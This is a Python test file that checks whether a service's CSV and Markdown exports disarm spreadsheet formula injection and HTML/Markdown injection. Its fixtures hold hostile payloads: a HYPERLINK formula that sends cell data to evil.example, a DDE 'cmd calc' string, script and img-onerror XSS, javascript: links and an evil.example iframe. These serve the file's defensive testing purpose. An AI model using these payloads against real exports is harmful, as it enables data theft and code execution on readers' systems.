"""Spreadsheet and Markdown injection (issue 13, item 8), through the real API.

Hostile names, titles, descriptors and transcript text are stored the way a client
would store them; then the clearance CSV and Markdown, the chapter's sources and the
transcript's Markdown export are downloaded. No cell may be a formula, and the Markdown,
rendered by a real CommonMark renderer with GFM tables, may hold no HTML of its own, no
link and no extra table column or heading, while still reading as the original text.
"""

from __future__ import annotations

import csv
import html
import io
import re
from pathlib import Path
from typing import Any

import pytest

from pipelines.escaping import FORMULA_TRIGGERS
from service.clearance.render import CSV_COLUMNS
from tests import factories as f

AS_OF = "2026-06-01"

FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
DDE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
FULLWIDTH_NAME = "＝1+1 某人"
HTML_TITLE = "<img src=x onerror=alert(1)> 访谈"
CHAPTER_TITLE = "+cmd| x | y |\n# injected heading\n<script>alert(1)</script>"
DESCRIPTOR = "-2+3 [who](javascript:alert(1)) <b>bold</b>"
SEGMENT_TEXT = "我说 | 第二列 | [点这里](javascript:alert(1)) <script>alert(2)</script> **粗**"
SECOND_TEXT = "<iframe src=//evil.example></iframe> 另一句"


def _post(api: Any, path: str, role: str, **kw: Any) -> Any:
    r = api.client.post(f"/api/v1{path}", headers=api.headers(role), **kw)
    assert r.status_code in (200, 201), (path, r.status_code, r.text)
    return r.json()


def hostile_book(api: Any, tmp_path: Path) -> dict[str, int]:
    """Two quotes from a recording with a hostile title, by people with hostile names,
    in chapters with hostile titles; one cleared on background terms, one blocked."""
    ids: dict[str, int] = {}
    ids["a"] = f.person(api, FORMULA_NAME)
    ids["b"] = f.person(api, DDE_NAME)
    ids["c"] = f.person(api, FULLWIDTH_NAME)
    rid = ids["rec"] = f.create_recording(
        api, tmp_path, HTML_TITLE, [(ids["a"], "interviewee"), (ids["c"], "interviewer")],
        seconds=12.0)
    srt = (f"1\n00:00:00,000 --> 00:00:05,000\nSPEAKER_00: {SEGMENT_TEXT}\n\n"
           f"2\n00:00:05,000 --> 00:00:10,000\nSPEAKER_01: {SECOND_TEXT}\n")
    r = api.client.post(f"/api/v1/recordings/{rid}/transcript", content=srt.encode(),
                        headers=api.headers("researcher")
                        | {"Content-Type": "application/x-subrip"})
    assert r.status_code == 201, r.text
    assert [s["speaker"] for s in r.json()["segments"]] == ["SPEAKER_00", "SPEAKER_01"]
    # "b" has no agreement: the second quote is blocked, and the report's table shows it.
    r = api.client.put(f"/api/v1/recordings/{rid}/speakers",
                       json={"SPEAKER_00": ids["a"], "SPEAKER_01": ids["b"]},
                       headers=api.headers("researcher"))
    assert r.status_code == 200, r.text
    ids["ch1"] = _post(api, "/chapters", "author",
                       json={"kind": "chapter", "number": "=1", "title": CHAPTER_TITLE})["id"]
    ids["ch2"] = _post(api, "/chapters", "author",
                       json={"kind": "chapter", "number": "＋2", "title": HTML_TITLE})["id"]
    ids["q1"] = _post(api, "/quotes", "author",
                      json={"recording_id": rid, "start": 0.5, "end": 4.5})["id"]
    ids["q2"] = _post(api, "/quotes", "author",
                      json={"recording_id": rid, "start": 5.5, "end": 9.5})["id"]
    _post(api, f"/chapters/{ids['ch1']}/quotes", "author",
          json={"quote_id": ids["q1"], "usage": "drafted"})
    _post(api, f"/chapters/{ids['ch2']}/quotes", "author",
          json={"quote_id": ids["q2"], "usage": "drafted"})
    _post(api, f"/chapters/{ids['ch2']}/quotes", "author",
          json={"quote_id": ids["q1"], "usage": "candidate"})
    f.consent(api, person_id=ids["a"], attribution="background", descriptor=DESCRIPTOR)
    return ids


def _starts_a_formula(cell: str) -> bool:
    return bool(cell) and (cell[0] in FORMULA_TRIGGERS or cell.lstrip()[:1] in FORMULA_TRIGGERS)


def test_clearance_csv_cells_are_never_formulas(api: Any, tmp_path: Path) -> None:
    ids = hostile_book(api, tmp_path)
    r = api.client.get("/api/v1/clearance", params={"as_of": AS_OF, "format": "csv"},
                       headers=api.headers("editor"))
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.text, newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    body = [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]]
    assert len(body) == 3
    # Every cell of every row: a spreadsheet reads it as text.
    for row in rows:
        for cell in row:
            assert not _starts_a_formula(cell), (cell, row)
    # The hostile values are all there, kept whole, behind the one quote that disarms them.
    assert {row["recording_title"] for row in body} == {HTML_TITLE}  # no trigger: as it is
    assert {row["speaker"] for row in body} == {"'" + FORMULA_NAME, "'" + DDE_NAME}
    assert {row["attribution"] for row in body if row["quote_id"] == str(ids["q1"])} == {
        "'" + DESCRIPTOR}
    chapters = {row["chapter"] for row in body}
    assert len(chapters) == 2 and all(c.startswith(("'=1 ", "'＋2 ")) for c in chapters)
    assert any(c.endswith(CHAPTER_TITLE) for c in chapters)
    # Every field is quoted: a separator or a quote inside a value never starts a new cell.
    assert r.text.startswith('"quote_id","chapter_id","chapter",')
    assert f'\n"{ids["q2"]}","{ids["ch2"]}",' in r.text


def _renderer() -> Any:
    markdown_it = pytest.importorskip("markdown_it")
    # CommonMark passes raw HTML through, as most Markdown viewers do; GFM tables on.
    return markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"])


def _visible_text(rendered: str) -> str:
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", rendered)).split())


def assert_inert_markdown(md: str, *, headings: int) -> str:
    """No raw tag, no link or image, and exactly ``headings`` headings; the text as read."""
    assert re.search(r"<(?!br>)[A-Za-z/!?]", md) is None, md
    rendered = _renderer().render(md)
    for tag in ("<script", "<img", "<iframe", "<a ", "<b>", "<strong>粗"):
        assert tag not in rendered, (tag, rendered)
    assert len(re.findall(r"<h[1-6]>", rendered)) == headings, rendered
    for row in re.findall(r"<tr>(.*?)</tr>", rendered, flags=re.S):
        assert len(re.findall(r"<t[dh]>", row)) == 5, row
    return _visible_text(rendered)


def _flat(text: str) -> str:
    return " ".join(text.split())


def test_clearance_markdown_is_inert(api: Any, tmp_path: Path) -> None:
    hostile_book(api, tmp_path)
    r = api.client.get("/api/v1/clearance", params={"as_of": AS_OF, "format": "md"},
                       headers=api.headers("editor"))
    assert r.status_code == 200, r.text
    assert "## Blocked: must not be printed" in r.text  # the table is there to break
    # Title, the blocked table, and one heading per chapter.
    read = assert_inert_markdown(r.text, headings=4)
    for value in (HTML_TITLE, CHAPTER_TITLE, DESCRIPTOR, DDE_NAME):
        assert _flat(value) in read, value


def test_chapter_sources_markdown_is_inert(api: Any, tmp_path: Path) -> None:
    ids = hostile_book(api, tmp_path)
    for chapter in ("ch1", "ch2"):
        r = api.client.get(f"/api/v1/chapters/{ids[chapter]}/sources",
                           headers=api.headers("author"))
        assert r.status_code == 200, r.text
        read = assert_inert_markdown(r.text, headings=1)
        assert _flat(HTML_TITLE) in read
    assert _flat(CHAPTER_TITLE) in assert_inert_markdown(
        api.client.get(f"/api/v1/chapters/{ids['ch1']}/sources",
                       headers=api.headers("author")).text, headings=1)


@pytest.mark.parametrize("role", ["researcher", "author"])
def test_transcript_markdown_export_is_inert(api: Any, tmp_path: Path, role: str) -> None:
    ids = hostile_book(api, tmp_path)
    r = api.client.get(f"/api/v1/recordings/{ids['rec']}/transcript/export",
                       params={"format": "md"}, headers=api.headers(role))
    assert r.status_code == 200, r.text
    read = assert_inert_markdown(r.text, headings=1)
    for value in (HTML_TITLE, SEGMENT_TEXT, SECOND_TEXT, FORMULA_NAME, FULLWIDTH_NAME):
        assert _flat(value) in read, value
